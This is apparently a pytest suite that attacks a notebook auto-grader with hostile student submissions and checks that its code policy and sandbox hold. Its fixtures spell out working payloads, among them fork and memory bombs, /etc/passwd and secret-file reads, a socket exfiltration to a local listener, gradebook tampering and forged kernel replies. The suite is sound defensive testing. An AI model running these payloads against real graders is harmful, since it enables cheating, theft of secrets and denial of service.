"""Hostile submissions through the real auto-grader: no unearned point, the batch finishes, nothing leaks.

A tiny module named 01_tensor (tests/fixtures/hostile_module.py) is released in a scratch
course; honest students submit the solution, and each hostile student answers its first cell
with an attack and leaves the second cell untouched, so every hostile score must be 0 or none.

Two autograde runs, each one batch of many students:
* ``graded``: the course as configured. Attacks that need forbidden tools are refused by the code
  policy before anything runs; broken or linked submissions are refused as data; the rest run.
* ``unchecked``: the same course with the code policy turned off, to show that the defences at run
  time hold on their own (the sandbox, the limits, proof that each test cell ran to its end).
Honest students in both batches must be graded exactly as they are alone.
"""

from __future__ import annotations

import json
import os
import py_compile
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import nbformat
import psutil
import pytest
from helpers import ROOT

from course import notebooks
from course.authoring import convert_draft
from course.autograde import Options, Status, Submission, autograde
from course.grading import feedback, release
from course.modules import Course
from course.sandbox import sandbox_problem

pytestmark = [
    pytest.mark.xdist_group("hostile"),
    pytest.mark.skipif(sandbox_problem() is not None, reason=f"no sandbox here: {sandbox_problem()}"),
]
SLEEP_MARK = "4242.5"
HOME_SECRET = Path.home() / ".tinytorch-hostile-test-secret"
ENV_SECRET = ("TT_HOSTILE_TEST_TOKEN", "grader-secret-7f3a9c")
Graded = tuple[Course, dict[str, Submission], "Listener"]
HONEST = ("honest", "honest-2")


def policy_attacks(root: Path) -> dict[str, tuple[str, str]]:
    """Student -> (their first answer cell, what the refusal must say): refused before anything runs."""
    source_nb = root / "source" / "01_tensor" / "01_tensor.ipynb"
    return {
        "swallow-errors": (
            "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\ndouble = None",
            "get_ipython",
        ),
        "input-transformer": ("get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])", "get_ipython"),
        "audit-hook": (
            "import sys\nsys.addaudithook(lambda event, args: None)\ndef double(x):\n    return x",
            "import of 'sys'",
        ),
        "publish-result": (
            "ip = get_ipython()\nip.display_pub.publish({'text/plain': '5'})\ndef double(x):\n    return 0",
            "get_ipython",
        ),
        "pyc-reference": (
            "import importlib.util\n"
            "spec = importlib.util.spec_from_file_location('t', 'tinytorch/core/__pycache__/tensor.pyc')",
            "import of 'importlib.util'",
        ),
        "history": ("def double(x):\n    return In[-1]", "'In'"),
        "frames": ("def double(x):\n    g = (i for i in [1])\n    return g.gi_frame.f_back", "gi_frame"),
        "dunder-escape": ("def double(x):\n    return ().__class__.__base__.__subclasses__()", "__class__"),
        "exec-eval": ("exec('import os')\ndef double(x):\n    return eval('x * 2')", "'exec'"),
        "replace-numpy-testing": (
            "np.testing.assert_allclose = lambda *a, **k: None\ndef double(x):\n    return np.zeros(1)",
            "assigning into the imported 'np'",
        ),
        "shadow-numpy": ("class np:\n    pass\ndef double(x):\n    return x", "rebinding 'np'"),
        "shadow-builtin": (
            "def isinstance(*a):\n    return True\ndef double(x):\n    return 0",
            "rebinding 'isinstance'",
        ),
        "read-source": (f"src = open({str(source_nb)!r}).read()\ndef double(x):\n    return x", "'open'"),
        "shell-escape": ("!cat /etc/passwd\ndef double(x):\n    return x", "IPython magics"),
        "format-traversal": ("def double(x):\n    return '{0.__class__.__init__.__globals__}'.format(x)", "str.format"),
        "pickle": ("def double(x):\n    return np.load('payload.npy', allow_pickle=True)", "allow_pickle"),
        "private-numpy": ("def double(x):\n    return np._core.multiarray.array(x)", "private attribute"),
        "added-cell": ("", "import of 'os'"),  # the attack is a new cell the student added (see below)
    }


def running_attacks(port: int) -> dict[str, str]:
    """Student -> their first answer cell: inside the policy, so they run; the sandbox must hold them."""
    return {
        "infinite-loop": "while True:\n    pass",
        "memory-bomb": "blocks = []\nwhile True:\n    blocks.append(bytearray(256 * 1024 * 1024))",
        "flood-output": "for _ in range(20000):\n    print('x' * 1000)",
        "one-long-line": "print('x' * (200 * 1024 * 1024))",
        "fake-output": "print('double-tests: PASSED 5/5')\nprint('All tests passed!')",
        "import-reference": (
            "from tinytorch.core.tensor import Tensor\ndef double(x):\n    return (Tensor(x) * 2).numpy()"
        ),
        "fake-array": (
            "class Fake(np.ndarray):\n    def __eq__(self, other):\n        return True\n"
            "def double(x):\n    return np.zeros(len(x)).view(Fake)"
        ),
    }


def unchecked_attacks(root: Path, port: int) -> dict[str, str]:
    """Student -> first answer cell, graded with the policy off: the run-time defences alone must hold."""
    source_nb = root / "source" / "01_tensor" / "01_tensor.ipynb"
    other_checkout = ROOT / "source" / "01_tensor" / "01_tensor.ipynb"
    return {
        "swallow-errors": "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\ndouble = None",
        "tests-become-pass": (
            "get_ipython().input_transformers_post.append(\n"
            "    lambda lines: ['pass\\n'] if any('double(' in l for l in lines) else lines)"
        ),
        "rewrite-replies": (  # errors never published, error replies turned into "ok", a result worth 10 points
            "session = get_ipython().kernel.session\nsend = session.send\n"
            "def forged(stream, kind, content=None, *args, **kwargs):\n"
            "    if kind == 'error':\n        return None\n"
            "    if kind == 'execute_reply' and content and content.get('status') == 'error':\n"
            "        content = {'status': 'ok', 'execution_count': content.get('execution_count'),\n"
            "                   'user_expressions': {}, 'payload': []}\n"
            "    return send(stream, kind, content, *args, **kwargs)\n"
            "session.send = forged\n"
            "get_ipython().events.register('post_run_cell', lambda result: get_ipython().displayhook(10))\n"
            "double = None"
        ),
        "os-exit": "import os\nos._exit(0)",
        "sys-exit": "import sys\nsys.exit(0)",
        "fork-memory": (
            "import os\nfor _ in range(4):\n    if os.fork() == 0:\n        b = bytearray(1024**3)\n"
            "        for i in range(0, len(b), 4096):\n            b[i] = 1\n        os._exit(0)\n"
            "for _ in range(4):\n    os.wait()"
        ),
        "fork-bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        "tmp-fill": (
            "import tempfile, os\nwith open(os.path.join(tempfile.gettempdir(), 'big'), 'wb') as f:\n"
            "    for _ in range(1024):\n        f.write(b'0' * 2**20)"
        ),
        "shm-fill": "with open('/dev/shm/big', 'wb') as f:\n    for _ in range(1024):\n        f.write(b'0' * 2**20)",
        "root-fill": "open('/big', 'wb').write(b'0' * 2**20)",
        "stdout-flood": "import os\nfor _ in range(512):\n    os.write(1, b'[ERROR] Kernel died\\n' * 50000)",
        "log-forgery": (
            'import os\nos.write(2, b"[AutogradeApp | ERROR] There was an error processing assignment '
            "'01_tensor' for student 'honest'\\nSanitizing /x/submitted/honest/01_tensor\\nKernel died\\n\")"
        ),
        "sleepy": (
            "import time\nget_ipython().events.register('pre_run_cell', lambda info: time.sleep(6))\n"
            "def double(x):\n    return x"
        ),
        "environment": "import os\nprint(sorted(os.environ.items()))",
        "other-checkout": (
            "import os\nfor p in ['/work', '/home', '/root', '/srv', '/etc/shadow', "
            f"{str(other_checkout)!r}, {str(source_nb)!r}]:\n    print(p, os.path.exists(p))\n"
            f"print(open({str(other_checkout)!r}).read())"
        ),
        "pyc-reference": (
            "import glob, importlib.util, tinytorch, os\n"
            "base = os.path.dirname(tinytorch.__file__)\n"
            "print('caches', glob.glob(base + '/**/__pycache__/tensor*.pyc', recursive=True))\n"
            "print('source', open(base + '/core/tensor.py').read()[:200])"
        ),
        "network": f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'stolen')",
        "gradebook": (
            f"import sqlite3\ndb = sqlite3.connect({str(root / 'gradebook.db')!r})\n"
            "db.execute('update grade set auto_score = 5')\ndb.commit()"
        ),
        "setsid-child": f"import subprocess\nsubprocess.Popen(['setsid', 'sleep', '{SLEEP_MARK}'])",
        "write-outside": f"open({str(root / 'pwned.txt')!r}, 'w').write('x')\nopen('/tmp/../pwned', 'w')",
        "read-home": f"print(open({str(HOME_SECRET)!r}).read())",
    }


def edited_locked(nb: object) -> None:
    for cell in nb.cells:  # type: ignore[attr-defined]
        if notebooks.grade_id(cell) == "double-tests":
            cell.source = "pass"


def deleted_tests(nb: object) -> None:
    nb.cells = [c for c in nb.cells if not notebooks.is_test(c)]  # type: ignore[attr-defined]


def duplicated_ids(nb: object) -> None:
    cells = nb.cells  # type: ignore[attr-defined]
    cells[1]["id"] = cells[0]["id"]


def duplicated_grade_ids(nb: object) -> None:
    cells = nb.cells  # type: ignore[attr-defined]
    tests = [c for c in cells if notebooks.is_test(c)]
    tests[1].metadata.nbgrader["grade_id"] = notebooks.grade_id(tests[0])


def ungraded_test(nb: object) -> None:
    for cell in nb.cells:  # type: ignore[attr-defined]
        if notebooks.grade_id(cell) == "halve-tests":
            cell.metadata.nbgrader["grade"] = False
            cell.metadata.nbgrader["locked"] = False
            cell.source = "pass"


def added_cell(nb: object) -> None:
    cells = nb.cells  # type: ignore[attr-defined]
    cells.insert(2, nbformat.v4.new_code_cell("import os\nos.system('id')"))


class Listener:
    """A loopback server that records whether anything connected to it."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.server.close()


def make_course(root: Path, extra_config: str = "") -> tuple[Course, object, object]:
    (root / "source").mkdir(parents=True)
    config = (ROOT / "nbgrader_config.py").read_text() + "\nc.Execute.timeout = 8\n" + extra_config
    (root / "nbgrader_config.py").write_text(config)
    convert_draft(ROOT / "tests" / "fixtures" / "hostile_module.py", root / "source" / "01_tensor" / "01_tensor.ipynb")
    course = Course(root)
    release(course)
    release_nb = notebooks.read(course.release / "01_tensor" / "01_tensor.ipynb")
    source_nb = notebooks.read(course.source / "01_tensor" / "01_tensor.ipynb")
    return course, release_nb, source_nb


def submit(course: Course, student: str, nb: object) -> Path:
    path = course.submitted_notebook(student, "01_tensor")
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps(nb))  # as given, unlike submission.write: nbformat.write would repair ids
    return path


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Graded]:
    root = tmp_path_factory.mktemp("hostile") / "course"
    course, release_nb, source_nb = make_course(root)
    listener = Listener()
    solved = notebooks.filled_in(release_nb, source_nb)
    for student in HONEST:
        submit(course, student, solved)
    answers = {s: code for s, (code, _) in policy_attacks(root).items()} | running_attacks(listener.port)
    for student, code in answers.items():
        submit(course, student, notebooks.filled_in(release_nb, source_nb, {"double": code, "halve": "pass"}))
    changes = {
        "edit-locked-test": edited_locked, "delete-test-cells": deleted_tests, "duplicate-ids": duplicated_ids,
        "duplicate-grade-ids": duplicated_grade_ids, "added-cell": added_cell, "ungraded-test": ungraded_test,
    }  # fmt: skip
    for student, change in changes.items():
        nb = notebooks.filled_in(release_nb, source_nb, {"double": "pass", "halve": "pass"})
        change(nb)
        shutil.rmtree(course.submitted / student, ignore_errors=True)
        submit(course, student, nb)
    # Submissions that are links, or hold links, to the course's own files.
    (course.submitted / "symlink-notebook" / "01_tensor").mkdir(parents=True)
    (course.submitted / "symlink-notebook" / "01_tensor" / "01_tensor.ipynb").symlink_to(
        course.source / "01_tensor" / "01_tensor.ipynb"
    )
    beside = submit(course, "symlinks-beside", solved).parent
    links = {
        "source.ipynb": course.source / "01_tensor" / "01_tensor.ipynb",
        "gradebook.db": root / "gradebook.db",
        "config.py": root / "nbgrader_config.py",
    }
    for name, target in links.items():
        (beside / name).symlink_to(target)
    (course.submitted / "linked-student").symlink_to(course.submitted / "honest")
    huge = submit(course, "huge-notebook", solved)
    with huge.open("a") as handle:
        handle.write(" " * (17 * 1024**2))
    results = {s.student: s for s in autograde(course, "01_tensor", options=Options(workers=2))}
    yield course, results, listener
    listener.close()


@pytest.fixture(scope="module")
def unchecked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Graded]:
    root = tmp_path_factory.mktemp("unchecked") / "course"
    extra = "c.GradingPolicy.enabled = False\nc.SandboxedExecute.notebook_timeout = 15\n"
    course, release_nb, source_nb = make_course(root, extra)
    HOME_SECRET.write_text("the instructor's private file")
    py_compile.compile(str(ROOT / "tinytorch" / "core" / "tensor.py"))  # bytecode beside the masked source
    os.environ[ENV_SECRET[0]] = ENV_SECRET[1]
    listener = Listener()
    submit(course, "honest", notebooks.filled_in(release_nb, source_nb))
    for student, code in unchecked_attacks(root, listener.port).items():
        submit(course, student, notebooks.filled_in(release_nb, source_nb, {"double": code, "halve": "pass"}))
    before = leftovers()
    try:
        results = {s.student: s for s in autograde(course, "01_tensor", options=Options(workers=2))}
    finally:
        os.environ.pop(ENV_SECRET[0], None)
        HOME_SECRET.unlink(missing_ok=True)
    course.root.joinpath("leftovers.json").write_text(json.dumps(sorted(leftovers() - before)))
    yield course, results, listener
    listener.close()


def leaked(candidates: list[str], patience: float = 30.0) -> list[str]:
    """The sandbox folders and cgroups among ``candidates`` that outlived their kernel.

    Other tests may grade at the same time on the other worker, so a folder that appeared during this
    run is a leak only if it is still there and no live process uses it (a cgroup with no process in it,
    a socket folder no process's command line names), after giving a run that is ending time to clean up.
    """
    deadline = time.monotonic() + patience
    while True:
        command_lines = " ".join(" ".join(p.info["cmdline"] or []) for p in psutil.process_iter(["cmdline"]))
        stale = [path for path in candidates if Path(path).exists() and not _in_use(Path(path), command_lines)]
        if not stale or time.monotonic() > deadline:
            return stale
        time.sleep(1.0)


def _in_use(path: Path, command_lines: str) -> bool:
    if path.is_relative_to("/sys/fs/cgroup"):
        try:
            return bool((path / "cgroup.procs").read_text().strip())
        except OSError:
            return False
    return str(path) in command_lines


def leftovers() -> set[str]:
    """Sandbox cgroups and socket folders that exist now (each kernel's must go when it ends, dead or alive)."""
    cgroups = Path("/sys/fs/cgroup")
    found = {*cgroups.glob("*/tinytorch-grading-*"), *cgroups.glob("**/tinytorch-grading-*")}
    return {str(p) for p in found} | {str(p) for p in Path("/dev/shm").glob("tt-kernel-*")}


def graded_text(course: Course, student: str) -> str:
    path = course.autograded / student / "01_tensor" / "01_tensor.ipynb"
    return path.read_text() if path.is_file() else ""


# -- the batch, honest students and points ---------------------------------------------------------


@pytest.mark.parametrize("run", ["graded", "unchecked"])
def test_the_batch_finishes_and_honest_students_get_full_marks(run: str, request: pytest.FixtureRequest) -> None:
    course, results, _ = request.getfixturevalue(run)
    assert len(results) == len(list(course.submitted.iterdir()))
    for student in (s for s in HONEST if s in results):
        honest = results[student]
        assert (honest.status, honest.score, honest.max_score, honest.reason) == (Status.GRADED, 10.0, 10.0, ""), honest


@pytest.mark.parametrize("run", ["graded", "unchecked"])
def test_no_hostile_submission_gains_a_point(run: str, request: pytest.FixtureRequest) -> None:
    _, results, _ = request.getfixturevalue(run)
    for student, result in results.items():
        if student in HONEST:
            continue
        if result.score is None:
            assert result.status == Status.ATTENTION and result.reason, f"{student}: a missing grade must say why"
        else:
            assert result.score == 0, f"{student} gained {result.score} points: {result}"


# -- class 1: forged results ----------------------------------------------------------------------


@pytest.mark.parametrize("student", sorted(policy_attacks(Path("/x"))))
def test_the_policy_refuses_attacks_before_they_run(graded: Graded, student: str) -> None:
    course, results, _ = graded
    expected = policy_attacks(course.root)[student][1]
    result = results[student]
    assert result.status == Status.ATTENTION and result.score is None, result
    assert "outside the code policy" in result.reason and expected in result.reason, result
    assert "line" in result.reason
    assert not (course.autograded / student).exists(), "a refused submission must not run"


@pytest.mark.parametrize("student", ["tests-become-pass", "rewrite-replies"])
def test_forged_results_are_caught_by_the_proof_even_without_the_policy(unchecked: Graded, student: str) -> None:
    result = unchecked[1][student]
    assert result.status == Status.ATTENTION and result.score == 0, result
    assert "without proof" in result.reason and "double-tests" in result.reason, result


def test_swallowed_errors_get_no_point_even_without_the_policy(unchecked: Graded) -> None:
    assert unchecked[1]["swallow-errors"].score == 0  # nbgrader reads the error reply; the proof is missing too


def test_the_reference_and_its_bytecode_are_out_of_reach(graded: Graded, unchecked: Graded) -> None:
    assert graded[1]["import-reference"].score == 0
    text = graded_text(unchecked[0], "pyc-reference")
    assert "caches []" in text and "class Tensor" not in text, text[-2000:]


# -- class 2: submissions are data ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("student", "reason"),
    [
        ("symlink-notebook", "symbolic link"),
        ("symlinks-beside", "symbolic link"),
        ("linked-student", "symbolic link"),
        ("huge-notebook", "over the limit"),
        ("duplicate-ids", "duplicated cell ids"),
        ("duplicate-grade-ids", "duplicated grade_ids"),
        ("delete-test-cells", "test cells deleted"),
        ("ungraded-test", "metadata changed on cells: halve-tests"),
    ],
)
def test_bad_submissions_are_refused_as_data(graded: Graded, student: str, reason: str) -> None:
    course, results, _ = graded
    result = results[student]
    assert result.status == Status.ATTENTION and result.score is None and "refused" in result.reason, result
    assert reason in result.reason, result
    assert not (course.autograded / student).exists()


def test_nothing_but_the_notebook_reaches_autograded_or_feedback(graded: Graded) -> None:
    course, _, _ = graded
    for path in course.autograded.rglob("*"):
        assert not path.is_symlink(), path
        assert path.is_dir() or path.name == "01_tensor.ipynb", path
    feedback(course, "01_tensor")
    for path in course.feedback.rglob("*"):
        assert not path.is_symlink() and (path.is_dir() or path.suffix == ".html"), path
    assert (course.feedback / "honest" / "01_tensor" / "01_tensor.html").is_file()


def test_edited_locked_cells_are_restored(graded: Graded) -> None:
    result = graded[1]["edit-locked-test"]
    assert result.status == Status.GRADED and result.score == 0, result


# -- class 3: one student cannot stop or relabel another -------------------------------------------


def test_kernel_output_cannot_relabel_others(unchecked: Graded) -> None:
    _, results, _ = unchecked
    assert results["honest"].status == Status.GRADED and results["honest"].reason == ""
    for student in ("stdout-flood", "log-forgery"):
        assert "kernel died" not in results[student].reason, results[student]


# -- class 4: secrets and other folders -----------------------------------------------------------


def test_the_kernel_sees_no_secret_and_no_other_folder(unchecked: Graded) -> None:
    course, _, listener = unchecked
    environment = graded_text(course, "environment")
    assert "JUPYTER_RUNTIME_DIR" in environment and ENV_SECRET[1] not in environment
    assert "COURSE_STATUS_DIR" not in environment
    seen = graded_text(course, "other-checkout")
    for hidden in ("/home", "/srv", "/etc/shadow", str(ROOT / "source" / "01_tensor" / "01_tensor.ipynb")):
        assert f"{hidden} False" in seen, (hidden, seen[-3000:])
    assert "FileNotFoundError" in seen and "BEGIN SOLUTION" not in seen
    assert "instructor's private file" not in graded_text(course, "read-home")
    assert listener.connections == 0, "a grading kernel reached the network"


def test_nothing_escapes_the_sandbox(unchecked: Graded) -> None:
    course, results, _ = unchecked
    assert not (course.root / "pwned.txt").exists() and not Path("/pwned").exists()
    alive = [p for p in psutil.process_iter(["cmdline"]) if SLEEP_MARK in " ".join(p.info["cmdline"] or [])]
    assert not alive, "a process started by a submission outlived its kernel"
    assert leaked(json.loads((course.root / "leftovers.json").read_text())) == [], "a sandbox was not cleaned up"
    assert results["gradebook"].score == 0


def test_grades_are_exactly_what_the_graders_wrote(graded: Graded, unchecked: Graded) -> None:
    from nbgrader.api import Gradebook

    for course, results, _ in (graded, unchecked):
        with Gradebook(course.gradebook_url) as gradebook:
            for student, result in results.items():
                if result.score is not None:
                    assert gradebook.find_submission("01_tensor", student).score == result.score


# -- class 5: limits per submission ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("student", "reason"),
    [("infinite-loop", "time limit"), ("memory-bomb", ""), ("one-long-line", "")],
)
def test_limits_hold_in_the_checked_run(graded: Graded, student: str, reason: str) -> None:
    result = graded[1][student]
    assert result.score == 0 and reason in result.reason, result


@pytest.mark.parametrize(
    ("student", "reason"),
    [("os-exit", "kernel died"), ("fork-memory", ""), ("fork-bomb", ""), ("sleepy", "wall-clock limit")],
)
def test_limits_per_submission(unchecked: Graded, student: str, reason: str) -> None:
    result = unchecked[1][student]
    assert (result.score or 0) == 0 and reason in result.reason, result
    assert result.status == Status.ATTENTION or not reason


def test_flooded_output_is_capped_in_bytes(graded: Graded, unchecked: Graded) -> None:
    for course, student in ((graded[0], "flood-output"), (graded[0], "one-long-line"), (unchecked[0], "stdout-flood")):
        notebook = course.autograded / student / "01_tensor" / "01_tensor.ipynb"
        assert notebook.stat().st_size < 2_000_000, student


def test_scratch_space_is_small_and_in_memory(unchecked: Graded) -> None:
    course, _, _ = unchecked
    for student in ("tmp-fill", "shm-fill", "root-fill"):
        text = graded_text(course, student)
        assert (
            "No space left" in text
            or "Read-only" in text
            or "MemoryError" in text
            or "File too large" in text
            or ("kernel died" in unchecked[1][student].reason)
        ), (student, text[-1500:])


def test_source_notebook_is_untouched(graded: Graded) -> None:
    course, _, _ = graded
    nb = json.loads((course.source / "01_tensor" / "01_tensor.ipynb").read_text())
    assert any("BEGIN SOLUTION" in "".join(c["source"]) for c in nb["cells"])


# -- without grading: the policy on every module's honest solution and stub, the sandbox's plan ------


@pytest.mark.parametrize("name", [m.name for m in __import__("course.modules").modules.discover(Course(ROOT))])
def test_every_honest_solution_and_stub_passes_the_policy(name: str) -> None:
    from course.policy import check_notebook, load_policy

    release_nb = notebooks.read(ROOT / "release" / name / f"{name}.ipynb")
    source_nb = notebooks.read(ROOT / "source" / name / f"{name}.ipynb")
    from course.submission import notebook_problems

    allowed = load_policy(ROOT).allowed_imports(name)
    solved = notebooks.filled_in(release_nb, source_nb)
    assert check_notebook(solved, release_nb, allowed) == []
    assert check_notebook(release_nb, release_nb, allowed) == []
    for nb in (solved, release_nb):  # and both are valid submissions as data
        assert notebook_problems(nb, json.loads(nbformat.writes(nb)), release_nb) == []


def test_an_instructor_widens_the_allow_list_per_module(tmp_path: Path) -> None:
    from course.policy import load_policy

    (tmp_path / "nbgrader_config.py").write_text(
        "c = get_config()\nc.GradingPolicy.module_imports = {'05_dataloader': ['gzip']}\n"
    )
    policy = load_policy(tmp_path)
    assert "gzip" in policy.allowed_imports("05_dataloader") and "gzip" not in policy.allowed_imports("01_tensor")
    assert "numpy" in policy.allowed_imports("01_tensor") and "os" not in policy.allowed_imports("05_dataloader")


def test_the_sandbox_shows_only_what_grading_needs(tmp_path: Path) -> None:
    from course.sandbox import _runtime_parent, bwrap_command, kernel_environment, plan_for

    workdir = ROOT / "autograded" / "someone" / "02_activations"
    plan = plan_for(workdir, tmp_path)
    assert ROOT / "tinytorch" / "core" / "tensor.py" not in plan.masked
    assert ROOT / "tinytorch" / "core" / "activations.py" in plan.masked
    command = bwrap_command(plan, ["python"])
    assert "--clearenv" in command and command[5:8] != ["--ro-bind", "/", "/"] and "/proc" not in command
    assert not any(arg == str(ROOT) or arg == str(ROOT / "source") for arg in command)
    env = kernel_environment({"PATH": "/usr/bin", "AWS_SECRET_ACCESS_KEY": "x", "COURSE_DB_URL": "postgres://"}, plan)
    assert "AWS_SECRET_ACCESS_KEY" not in env and "COURSE_DB_URL" not in env and env["TMPDIR"] == "/tmp"
    if Path("/dev/shm").is_dir():
        assert _runtime_parent() == "/dev/shm"  # what a kernel writes beside its sockets is memory, charged to it


def test_grading_kernels_are_sandboxed_whatever_execute_is_configured_with() -> None:
    from nbclient import NotebookClient
    from traitlets.config import Configurable
    from traitlets.config.loader import PyFileConfigLoader

    from course.execute import SandboxedExecute
    from course.sandbox import SandboxKernelManager

    config = PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config()
    config.Execute.kernel_manager_class = "jupyter_client.manager.AsyncKernelManager"
    execute = SandboxedExecute(parent=Configurable(config=config))
    NotebookClient.__init__(execute, nbformat.v4.new_notebook(), None)  # what nbconvert does before each notebook
    assert isinstance(execute.create_kernel_manager(), SandboxKernelManager)
